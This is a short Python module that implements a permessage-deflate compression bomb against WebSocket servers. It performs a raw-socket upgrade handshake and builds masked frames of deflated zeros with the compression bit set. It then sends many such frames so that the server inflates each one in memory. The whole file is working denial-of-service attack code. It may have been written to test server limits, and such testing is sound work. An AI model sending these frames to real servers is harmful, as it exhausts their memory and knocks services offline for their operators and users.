"""A permessage-deflate compression bomb, sent over a raw socket (no client library limits).

Each frame is ``size`` bytes of zeros deflated to a few KB, sent with RSV1 set as a
permessage-deflate message. A server that negotiated compression and accepts large
messages inflates every one of them in memory.
"""

import asyncio
import base64
import contextlib
import os
import struct
import zlib


def deflated_zeros(size: int) -> bytes:
    """``size`` zero bytes, raw-deflated as permessage-deflate sends them."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(b"\0" * size) + compressor.flush(zlib.Z_SYNC_FLUSH)
    return data[:-4] if data.endswith(b"\x00\x00\xff\xff") else data


def masked_frame(payload: bytes, *, rsv1: bool) -> bytes:
    """A final text frame from a client (masked), optionally marked compressed."""
    first = 0x80 | (0x40 if rsv1 else 0) | 0x1
    length = len(payload)
    if length < 126:
        header = struct.pack("!BB", first, 0x80 | length)
    elif length < 1 << 16:
        header = struct.pack("!BBH", first, 0x80 | 126, length)
    else:
        header = struct.pack("!BBQ", first, 0x80 | 127, length)
    mask = os.urandom(4)
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return header + mask + body


async def send_bomb(host: str, port: int, path: str, frames: int, size: int) -> bool:
    """Open a socket offering permessage-deflate, send ``frames`` bombs; whether it was accepted."""
    reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
    try:
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write(
            (
                f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
                f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                "Sec-WebSocket-Version: 13\r\n"
                "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n\r\n"
            ).encode()
        )
        await writer.drain()
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
        if b" 101 " not in head.split(b"\r\n", 1)[0]:
            return False
        frame = masked_frame(deflated_zeros(size), rsv1=True)
        with contextlib.suppress(ConnectionError):
            for _ in range(frames):
                writer.write(frame)
                await writer.drain()
        return True
    finally:
        writer.close()
        with contextlib.suppress(Exception):
            await asyncio.wait_for(writer.wait_closed(), 5)
